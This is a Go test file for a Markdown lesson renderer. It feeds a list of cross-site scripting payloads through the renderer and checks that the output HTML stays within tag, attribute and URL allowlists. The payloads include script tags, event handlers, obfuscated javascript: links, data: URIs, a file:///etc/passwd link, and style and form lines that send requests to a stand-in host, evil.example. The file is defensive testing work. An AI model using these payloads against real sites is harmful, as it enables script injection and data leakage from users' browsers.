package lessons

import (
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"

	"simtlab/lessons/internal/links"
)

// injections are attempts to run script, load frames or style the page from
// a pack's Markdown. None may survive into the rendered HTML.
var injections = []string{
	"<script>alert(1)</script>",
	"text <script>alert(1)</script> inline",
	"<img src=x onerror=alert(1)>",
	"<svg onload=alert(1)><circle/></svg>",
	"<svg><script>alert(1)</script></svg>",
	"<iframe src=\"https://evil.example/\"></iframe>",
	"<style>body { background: url(https://evil.example/?leak) }</style>",
	"<link rel=stylesheet href=https://evil.example/x.css>",
	"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
	"<base href=\"https://evil.example/\">",
	"<object data=\"x.swf\"></object><embed src=x.swf>",
	"<form action=https://evil.example/><input name=p></form>",
	"<details open ontoggle=alert(1)>x</details>",
	"<div onclick=\"alert(1)\">click</div>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
	"<!-- simtlab-widget:0 -->",
	"[a](javascript:alert(1))",
	"[a](JaVaScRiPt:alert(1))",
	"[a](java&#x09;script:alert(1))",
	"[a](&#x6A;avascript:alert(1))",
	"[a](%6Aavascript:alert(1))",
	"[a]( javascript:alert(1) )",
	"[a](<javascript:alert(1)>)",
	"[a](vbscript:msgbox(1))",
	"[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
	"[a](file:///etc/passwd)",
	"<javascript:alert(1)>",
	"[a][r]\n\n[r]: javascript:alert(1)",
	"![x](javascript:alert(1))",
	"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
	"![x](x.png \"<script>alert(1)</script>\")",
	"[a](https://example.org \"\\\" onmouseover=\\\"alert(1)\")",
	"$\\text{<script>alert(1)</script>}$",
	"$\\mathrm{\"><img src=x onerror=alert(1)>}$",
	"$$\n\\text{</math><script>alert(1)</script>}\n$$",
	"```\"><script>alert(1)</script>\nx\n```",
	"# \"><img src=x onerror=alert(1)>",
	"| a |\n|---|\n| <script>alert(1)</script> |",
	"> [!NOTE\"><script>alert(1)</script>]\n> x",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"```cuda {#x run}\n</script><script>alert(1)</script>\n```",
	"```exercise {for=\"><script>\"}\ntitle: t\n```",
}

var (
	tagRE  = regexp.MustCompile(`<(/?)([a-zA-Z][a-zA-Z0-9-]*)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*/?>`)
	attrRE = regexp.MustCompile(`\s+([^\s=>]+)(?:="([^"]*)")?`)
)

// allowedTags are the elements our renderers produce.
var allowedTags = strings.Fields(`p h1 h2 h3 h4 h5 h6 a img em strong del code pre span ul ol li input
	table thead tbody tr th td blockquote div figure figcaption hr br
	math semantics annotation mrow mi mo mn mtext mspace mfrac msqrt mroot msub msup msubsup
	munder mover munderover mtable mtr mtd`)

var allowedAttrs = strings.Fields(`href src alt title id class style checked disabled type role
	start xmlns display encoding mathvariant largeop movablelimits form fence stretchy width linethickness accent`)

// assertSafe fails when html holds an element, attribute or URL outside the
// allowlists. Text outside tags is escaped by goldmark, so tags are the
// only way in.
func assertSafe(t *testing.T, input, html string) {
	t.Helper()
	if strings.Contains(strings.ToLower(html), "<script") {
		t.Errorf("input %q: <script in output:\n%s", input, html)
	}
	for _, m := range tagRE.FindAllStringSubmatch(html, -1) {
		name := strings.ToLower(m[2])
		if !slices.Contains(allowedTags, name) {
			t.Errorf("input %q: element <%s> in output:\n%s", input, name, html)
		}
		for _, a := range attrRE.FindAllStringSubmatch(m[3], -1) {
			attr := strings.ToLower(a[1])
			if !slices.Contains(allowedAttrs, attr) {
				t.Errorf("input %q: attribute %s on <%s>:\n%s", input, attr, name, html)
			}
			if (attr == "href" || attr == "src") && !links.Allowed(unescapeAttr(a[2]), attr == "src") {
				t.Errorf("input %q: %s=%q:\n%s", input, attr, a[2], html)
			}
			if attr == "style" && !regexp.MustCompile(`^text-align:(left|center|right)$`).MatchString(a[2]) {
				t.Errorf("input %q: style=%q", input, a[2])
			}
		}
	}
}

var attrEntities = strings.NewReplacer("&amp;", "&", "&quot;", `"`, "&lt;", "<", "&gt;", ">", "&#39;", "'")

func unescapeAttr(s string) string { return attrEntities.Replace(s) }

func TestInjections(t *testing.T) {
	for _, in := range injections {
		md := "# Injection\n\n" + in + "\n"
		l, _ := Render("inj.md", []byte(md)) // problems are expected; the page must still be safe
		if l == nil {
			t.Fatalf("input %q: no lesson", in)
		}
		var html strings.Builder
		widgets := 0
		for _, s := range l.Segments {
			html.WriteString(s.HTML)
			if s.Widget != nil {
				widgets++
			}
		}
		assertSafe(t, in, html.String())
		if strings.Contains(html.String(), "simtlab-widget") {
			t.Errorf("input %q: a widget marker leaked into the page", in)
		}
		if want := strings.Count(in, "run}"); widgets != want {
			t.Errorf("input %q: %d widgets, want %d", in, widgets, want)
		}
	}
}

// The allowlist checker itself must catch what it is meant to catch.
func TestAssertSafeCatches(t *testing.T) {
	for _, bad := range []string{
		`<script>x</script>`, `<img src="x" onerror="y">`, `<a href="javascript:x">`,
		`<iframe src="x">`, `<a href="java&#x09;script:x">`, `<p style="background:url(x)">`,
	} {
		ft := &testing.T{}
		assertSafe(ft, "", bad)
		if !ft.Failed() {
			t.Errorf("assertSafe accepted %q", bad)
		}
	}
}

// The injection pack of tests/packs (also used by the browser test) renders
// to a safe page.
func TestInjectionPack(t *testing.T) {
	p, _ := LoadPack(os.DirFS("../tests/packs/script-injection"))
	if p == nil || len(p.Lessons) != 1 {
		t.Fatalf("pack did not load: %+v", p)
	}
	var html strings.Builder
	for _, s := range p.Lessons[0].Segments {
		if s.Widget != nil {
			t.Errorf("a widget appeared: %+v", s.Widget)
		}
		html.WriteString(s.HTML)
	}
	assertSafe(t, "script-injection pack", html.String())
	if strings.Contains(html.String(), "injected") && strings.Contains(html.String(), "<script") {
		t.Error("script survived")
	}
}
